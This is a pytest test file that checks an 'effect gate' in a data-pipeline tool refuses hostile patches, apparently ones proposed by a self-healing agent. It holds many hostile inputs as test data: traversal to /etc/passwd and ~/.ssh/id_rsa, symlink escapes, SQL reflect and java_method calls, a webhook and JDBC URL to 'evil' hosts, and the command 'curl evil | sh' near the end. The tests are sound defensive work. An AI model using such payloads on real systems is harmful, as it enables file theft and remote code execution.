"""The effect gate judges the compiled, patched Blueprint: every route to a location counts.

Each hostile patch below names `/etc` (or a new write target, new code, an engine setting out
of bounds) by a different route; a string check on the patch's `path` key sees none of them.
All run through `static_verdict`, the path `aqueduct patch preview` and `patch apply` use.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from aqueduct_dagster.blueprint import compile_blueprint
from aqueduct_dagster.config import AqueductConfig
from aqueduct_dagster.healing.effect import (
    DEFAULT_ENGINE_CEILINGS,
    EffectPolicy,
    compiled_effect,
    judge_effect,
)
from aqueduct_dagster.healing.patch import PatchSpec
from aqueduct_dagster.healing.preview import static_verdict
from aqueduct_dagster.healing.rules import ENGINE_CONFIG_ALLOWLIST

BLUEPRINT = """\
aqueduct: "1.0"
id: fx
name: FX
context:
  root: data
  out: out
macros:
  src: "data/other.csv"
  flt: "amount > 0"
{agent}
modules:
  - id: raw
    type: Ingress
    config: {{format: csv, path: "${{ctx.root}}/in.csv", header: true}}
  - id: aux
    type: Ingress
    config: {{format: csv, path: "{{{{ macros.src }}}}", header: true}}
  - id: clean
    type: Channel
    config:
      op: sql
      query: "SELECT raw.id, raw.amount FROM raw JOIN aux ON raw.id = aux.id WHERE {{{{ macros.flt }}}}"
  - id: check
    type: Assert
    config:
      rules: [{{type: sql, expr: "MIN(amount) > 0"}}]
  - id: out
    type: Egress
    config: {{format: parquet, path: "${{ctx.out}}/result", mode: overwrite}}
edges:
  - {{from: raw, to: clean}}
  - {{from: aux, to: clean}}
  - {{from: clean, to: check}}
  - {{from: check, to: out}}
"""


@pytest.fixture
def project(tmp_path, monkeypatch):
    """A project folder, the working folder (where the engine resolves relative paths)."""
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "in.csv").write_text("id,amount\n1,2\n")
    (tmp_path / "data" / "other.csv").write_text("id,amount\n1,2\n")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def write_blueprint(project: Path, agent: str = "") -> Path:
    path = project / "bp.yml"
    path.write_text(BLUEPRINT.format(agent=agent))
    return path


def verdict(project: Path, *operations, agent: str = "", config: AqueductConfig | None = None):
    blueprint = write_blueprint(project, agent)
    patch = PatchSpec(rationale="test", confidence=0.9, operations=list(operations))
    return static_verdict(patch, blueprint, config=config or AqueductConfig())


def rejected(results, gate: str = "effect") -> str:
    last = results[-1]
    assert not last.passed, results
    assert last.gate == gate, results
    return last.message


def passed(results) -> None:
    assert [r.gate for r in results] == ["guardrails", "compile", "effect"], results
    assert all(r.passed for r in results), results


def set_key(module_id: str, key: str, value) -> dict:
    return {"op": "set_module_config_key", "module_id": module_id, "key": key, "value": value}


# --------------------------------------------------------------------------- reads: each route


def test_a_new_read_inside_a_folder_already_read_passes(project):
    passed(verdict(project, set_key("raw", "path", "data/in_fixed.csv")))
    passed(verdict(project, set_key("raw", "path", "data/sub/part-*.csv")))


def test_dotdot_traversal_is_resolved_before_judging(project):
    message = rejected(verdict(project, set_key("raw", "path", "data/" + "../" * 12 + "etc/passwd")))
    assert "module 'raw' config.path" in message and "'/etc/passwd'" in message
    assert "outside every folder the Blueprint already reads from" in message


def test_a_string_prefix_is_not_a_folder(project):
    # "data_evil" starts with "data" as a string, not as a path component.
    message = rejected(verdict(project, set_key("raw", "path", "data_evil/x.csv")))
    assert "data_evil/x.csv" in message


def test_a_symlink_out_of_the_project_is_resolved(project):
    (project / "data" / "link").symlink_to("/etc")
    message = rejected(verdict(project, set_key("raw", "path", "data/link/hostname")))
    assert "'/etc/hostname'" in message


def test_reader_option_path(project):
    message = rejected(verdict(project, set_key("raw", "options.path", "/etc/hostname")))
    assert "module 'raw' config.options.path" in message and "/etc/hostname" in message


def test_reader_option_paths_list(project):
    message = rejected(verdict(project, set_key("raw", "options.paths", "data/in.csv,/etc/hosts")))
    assert "/etc/hosts" in message


def test_context_root_pointed_at_etc(project):
    op = {"op": "replace_context_value", "key": "root", "value": "/etc"}
    message = rejected(verdict(project, op))
    assert "module 'raw' config.path" in message and "'/etc/in.csv'" in message


def test_environment_variable_route(project, monkeypatch):
    monkeypatch.setenv("AQ_TEST_EVIL_DIR", "/etc")
    # A variable the Blueprint did not read: refused as such.
    message = rejected(verdict(project, set_key("raw", "path", "@aq.env('AQ_TEST_EVIL_DIR')/passwd")))
    assert "environment variable or secret 'AQ_TEST_EVIL_DIR'" in message
    # One it reads already (a context value): the location it resolves to is judged.
    blueprint = write_blueprint(project).read_text().replace(
        "  out: out\n", "  out: out\n  spare: \"@aq.env('AQ_TEST_EVIL_DIR', 'data')\"\n")
    (project / "bp.yml").write_text(blueprint)
    patch = PatchSpec(rationale="t", operations=[set_key("raw", "path", "${ctx.spare}/passwd")])
    message = rejected(static_verdict(patch, project / "bp.yml", config=AqueductConfig()))
    assert "module 'raw' config.path" in message and "'/etc/passwd'" in message


def test_macro_route(project):
    message = rejected(verdict(project, {"op": "replace_macro", "name": "src", "value": "/etc/passwd"}))
    assert "module 'aux' config.path" in message and "'/etc/passwd'" in message


def test_replace_module_config_route(project):
    op = {"op": "replace_module_config", "module_id": "raw",
          "config": {"format": "text", "path": "/etc/hostname"}}  # fmt: skip
    assert "'/etc/hostname'" in rejected(verdict(project, op))


def test_remove_and_re_add_a_module(project):
    ops = [
        {"op": "remove_module", "module_id": "aux"},
        {"op": "insert_module", "module": {"id": "aux", "type": "Ingress",
                                           "config": {"format": "csv", "path": "/etc/hosts"}},
         "edges_to_add": [{"from": "aux", "to": "clean"}]},
    ]  # fmt: skip
    assert "'/etc/hosts'" in rejected(verdict(project, *ops))


def test_inserted_ingress_reading_elsewhere(project):
    op = {"op": "insert_module", "module": {"id": "spy", "type": "Ingress",
                                            "config": {"format": "text", "path": "/etc/hostname"}}}  # fmt: skip
    assert "module 'spy' config.path" in rejected(verdict(project, op))


def test_a_new_catalog_table_read(project):
    op = {"op": "replace_module_config", "module_id": "aux", "config": {"table": "prod.customers"}}
    message = rejected(verdict(project, op))
    assert "reads a new table 'prod.customers'" in message


def test_jdbc_url_read(project):
    op = {"op": "replace_module_config", "module_id": "aux",
          "config": {"format": "jdbc", "options": {"url": "jdbc:postgresql://evil/db", "dbtable": "users"}}}  # fmt: skip
    assert "jdbc" in rejected(verdict(project, op))


# --------------------------------------------------------------------------- writes


def test_egress_path_moved(project):
    message = rejected(verdict(project, set_key("out", "path", "out/elsewhere")))
    assert "writes to a new path" in message and "may not add a write target" in message


def test_egress_table(project):
    op = {"op": "replace_module_config", "module_id": "out",
          "config": {"format": "delta", "table": "prod.users", "mode": "overwrite"}}  # fmt: skip
    assert "writes to a new table 'prod.users'" in rejected(verdict(project, op))


def test_inserted_egress(project):
    op = {"op": "insert_module",
          "module": {"id": "leak", "type": "Egress", "config": {"format": "csv", "path": "out/leak"}},
          "edges_to_add": [{"from": "clean", "to": "leak"}]}  # fmt: skip
    assert "module 'leak' config.path: writes to a new path" in rejected(verdict(project, op))


def test_catalog_registration_and_checkpoint_location(project):
    message = rejected(verdict(project, set_key("out", "register_as_table", "shadow_users")))
    assert "new catalog 'shadow_users'" in message
    message = rejected(verdict(project, set_key("out", "options.checkpointLocation", "/tmp/anywhere")))
    assert "config.options.checkpointLocation" in message


def test_webhook_on_failure(project):
    op = {"op": "set_module_on_failure", "module_id": "clean", "on_failure": {"webhook": "http://evil/x"}}
    assert "http://evil/x" in rejected(verdict(project, op))


# --------------------------------------------------------------------------- code


def test_new_code_locations(project):
    probe = {"op": "add_probe", "module": {"id": "p", "type": "Probe", "attach_to": "clean",
             "config": {"signals": [{"type": "custom", "module": "evil_mod", "entry": "run"}]}}}  # fmt: skip
    message = rejected(verdict(project, probe))
    assert "loads new code (probe" in message and "evil_mod" in message
    # A whole custom data source compiles; the effect gate refuses the code it would load.
    custom = verdict(project, set_key("raw", "format", "custom"), set_key("raw", "class", "com.evil.Reader"))
    assert "loads new code (class com.evil.Reader in module 'raw')" in rejected(custom)
    # `class` on a csv Ingress does not even compile (it would be read as csv).
    assert "write format: custom" in rejected(verdict(project, set_key("raw", "class", "com.evil.Reader")), "compile")
    message = rejected(verdict(project, set_key("raw", "format", "com.evil.spark.DefaultSource")))
    assert "loads new code (data source format com.evil.spark.defaultsource)" in message
    passed(verdict(project, set_key("raw", "format", "CSV")))


# --------------------------------------------------------------------------- policy configuration


def test_allowed_paths_narrow_the_default(project):
    agent = "agent:\n  guardrails:\n    allowed_paths: [data/sub]"
    passed(verdict(project, set_key("raw", "path", "data/sub/x.csv"), agent=agent))
    message = rejected(verdict(project, set_key("raw", "path", "data/in2.csv"), agent=agent))
    assert "outside agent.guardrails.allowed_paths (data/sub)" in message


def test_denied_components_from_blueprint_and_operator(project):
    agent = "agent:\n  guardrails:\n    deny_patterns: ['secret*']"
    message = rejected(verdict(project, set_key("raw", "path", "data/secrets/x.csv"), agent=agent))
    assert "matches the denied path pattern 'secret*'" in message
    config = AqueductConfig.model_validate({"agent": {"guardrails": {"denied_paths": ["data/private"]}}})
    message = rejected(verdict(project, set_key("raw", "path", "data/private/x.csv"), config=config))
    assert "'data/private'" in message
    # a component, not a substring: "privateer" is not "private"
    passed(verdict(project, set_key("raw", "path", "data/privateer.csv"), config=config))


# --------------------------------------------------------------------------- engine conf


def engine(key: str, value) -> dict:
    return {"op": "set_engine_config", "engine": "spark", "key": key, "value": value}


def test_engine_values_are_bounded(project):
    passed(verdict(project, engine("spark.driver.memory", "4g")))
    passed(verdict(project, engine("spark.sql.shuffle.partitions", 64)))
    passed(verdict(project, engine("spark.sql.autoBroadcastJoinThreshold", -1)))
    assert "outside 1..32g" in rejected(verdict(project, engine("spark.driver.memory", "100000g")))
    assert "outside 1..4000" in rejected(verdict(project, engine("spark.sql.shuffle.partitions", 10**7)))
    assert "not a number or size" in rejected(verdict(project, engine("spark.driver.memory", "lots")))
    assert "must be true or false" in rejected(verdict(project, engine("spark.sql.adaptive.enabled", "x; rm")))
    duckdb = {"op": "set_engine_config", "engine": "duckdb", "key": "threads", "value": 100000}
    assert "'duckdb.threads' = 100000 is outside 1..64" in rejected(verdict(project, duckdb))


def test_operator_ceilings_move_both_ways(project):
    lower = AqueductConfig.model_validate({"agent": {"guardrails": {"engine_conf_ceilings": {"spark.driver.memory": "2g"}}}})
    assert "outside 1..2g" in rejected(verdict(project, engine("spark.driver.memory", "4g"), config=lower))
    higher = AqueductConfig.model_validate({"agent": {"guardrails": {"engine_conf_ceilings": {"spark.driver.memory": "128g"}}}})
    passed(verdict(project, engine("spark.driver.memory", "64g"), config=higher))


def test_ceilings_cover_exactly_the_allowlisted_spark_keys():
    assert {k for k in DEFAULT_ENGINE_CEILINGS if k.startswith("spark.")} == ENGINE_CONFIG_ALLOWLIST


def test_an_operator_ceiling_cannot_add_a_key(project):
    config = AqueductConfig.model_validate({"agent": {"guardrails": {"engine_conf_ceilings": {"master_url": "x"}}}})
    blueprint = write_blueprint(project)
    text = blueprint.read_text().replace("modules:\n", "engine: {spark: {master_url: 'local[2]'}}\nmodules:\n", 1)
    blueprint.write_text(text)
    before = compile_blueprint(blueprint)
    after = before.model_copy(update={"engine": before.engine.model_copy(update={
        "spark": before.engine.spark.model_copy(update={"master_url": "spark://evil:7077"})})})  # fmt: skip
    policy = EffectPolicy.from_settings(None, config.agent.guardrails)
    problems = judge_effect(compiled_effect(before), compiled_effect(after), policy)
    assert problems and "engine config 'master_url' may not be changed" in problems[0]


def test_keys_off_the_allowlist_are_refused_first_by_guardrails(project):
    results = verdict(project, engine("spark.driver.extraJavaOptions", "-javaagent:/tmp/x.jar"))
    assert "not on the allowlist" in rejected(results, gate="guardrails")


# --------------------------------------------------------------------------- SQL reached through the patch


def test_sql_through_a_macro_is_judged_on_the_compiled_query(project):
    op = {"op": "replace_macro", "name": "flt", "value": "raw.id IN (SELECT 1 FROM text.`/etc/hostname`)"}
    message = rejected(verdict(project, op))
    assert "module 'clean' config.query" in message and "path-qualified table text.`/etc/hostname`" in message


def test_assert_rule_and_spillway_condition_sql(project):
    op = {"op": "replace_module_config", "module_id": "check",
          "config": {"rules": [{"type": "sql", "expr": "MIN(java_method('java.lang.System', 'getenv', 'HOME')) > 0"}]}}  # fmt: skip
    assert "config.rules[0].expr: function java_method()" in rejected(verdict(project, op))
    message = rejected(verdict(project, set_key("clean", "spillway_condition", "reflect('java.lang.Runtime', 'x') IS NULL")))
    assert "config.spillway_condition: function reflect()" in message


def test_a_plain_sql_fix_passes(project):
    passed(verdict(project, set_key("clean", "query",
                                    "SELECT raw.id, round(raw.amount, 2) AS amount FROM raw JOIN aux USING (id)")))  # fmt: skip


def test_compiled_effect_normalizes_locations(project):
    blueprint = write_blueprint(project)
    effect = compiled_effect(compile_blueprint(blueprint), project)
    reads = {t.value for t in effect.reads}
    assert reads == {os.path.realpath(project / "data" / "in.csv"), os.path.realpath(project / "data" / "other.csv")}
    assert {t.value for t in effect.writes} == {os.path.realpath(project / "out" / "result")}


# --------------------------------------------------------------------------- routes that hide a location


def test_glob_alternation_hiding_a_traversal(project):
    # Hadoop expands {a,b} before it reads: the second branch leaves the project.
    value = "data/{in.csv," + "../" * 12 + "etc/passwd}"
    assert "'/etc/passwd'" in rejected(verdict(project, set_key("raw", "path", value)))
    nested = "data/{a,{b,c}}/x.csv"
    assert "unexpandable glob alternation" in rejected(verdict(project, set_key("raw", "path", nested)))
    passed(verdict(project, set_key("raw", "path", "data/{in,other}.csv")))


def test_json_list_of_paths_in_an_option(project):
    value = '["data/in.csv", "/etc/shadow"]'
    assert "'/etc/shadow'" in rejected(verdict(project, set_key("aux", "options.paths", value)))


def test_other_location_options(project):
    message = rejected(verdict(project, set_key("raw", "options.basePath", "/etc")))
    assert "config.options.basePath" in message
    message = rejected(verdict(project, set_key("raw", "options.badRecordsPath", "data/bad")))
    assert "writes to a new path" in message


def test_flags_with_location_like_names_are_not_places(project):
    passed(verdict(project, set_key("raw", "options.ignoreCorruptFiles", "true")))
    passed(verdict(project, set_key("raw", "options.maxFilesPerTrigger", 10)))


def test_home_directory_shorthand(project):
    assert str(Path.home()) in rejected(verdict(project, set_key("raw", "path", "~/.ssh/id_rsa")))


def test_a_new_environment_variable_or_secret_is_refused_by_name_only(project, monkeypatch):
    monkeypatch.setenv("AQ_TEST_API_TOKEN", "tok-884422-value")
    for value in ("data/@aq.env('AQ_TEST_API_TOKEN').csv", "data/${AQ_TEST_API_TOKEN}.csv",
                  "data/@aq.secret('AQ_TEST_API_TOKEN').csv", 'data/@aq.secret("AQ_TEST_API_TOKEN").csv'):  # fmt: skip
        results = verdict(project, set_key("raw", "path", value))
        message = rejected(results)
        assert "environment variable or secret 'AQ_TEST_API_TOKEN'" in message
        assert all("tok-884422-value" not in r.message for r in results)


def test_an_arcade_reference_is_refused_before_the_compiler_reads_the_file(project):
    op = {"op": "insert_module", "module": {"id": "sub", "type": "Arcade", "ref": "/etc/passwd"}}
    message = rejected(verdict(project, op), gate="guardrails")
    assert "Arcade" in message and "root:" not in message


def test_sql_in_every_expression_field(project):
    ops = [
        {"op": "insert_module", "module": {"id": "pick", "type": "Channel",
         "config": {"op": "select", "columns": ["id", "java_method('java.lang.System', 'getenv', 'X') AS e"]}},
         "edges_to_add": [{"from": "raw", "to": "pick"}]},
        {"op": "insert_module", "module": {"id": "route", "type": "Junction",
         "config": {"mode": "conditional", "branches": [
             {"id": "a", "condition": "id IN (SELECT 1 FROM csv.`/etc/passwd`)"}, {"id": "b", "condition": "_else_"}]}},
         "edges_to_add": [{"from": "raw", "to": "route"}]},
        {"op": "insert_module", "module": {"id": "watch", "type": "Probe", "attach_to": "raw",
         "config": {"signals": [{"type": "custom", "sql": "max(reflect('a', 'b'))"}]}},
         "edges_to_add": [{"from": "raw", "to": "watch"}]},
        set_key("raw", "partition_filters", "try_reflect('a', 'b') IS NULL"),
    ]  # fmt: skip
    expected = ["config.columns[1]: function java_method()", "config.branches[0].condition: path-qualified",
                "config.signals[0].sql: function reflect()", "config.partition_filters: function try_reflect()"]  # fmt: skip
    for op, words in zip(ops, expected, strict=True):
        assert words in rejected(verdict(project, op)), words


def test_on_failure_command_and_depot_reads(project):
    op = {"op": "set_module_on_failure", "module_id": "clean", "on_failure": {"command": "curl evil | sh"}}
    assert "loads new code (on_failure command" in rejected(verdict(project, op))
    op = set_key("clean", "query", "SELECT raw.id, raw.amount FROM raw JOIN aux ON raw.id = aux.id "
                                   "WHERE raw.id > '@aq.depot.get(\"other_pipeline_secret\", \"0\")'")  # fmt: skip
    assert "reads a new depot 'other_pipeline_secret'" in rejected(verdict(project, op))
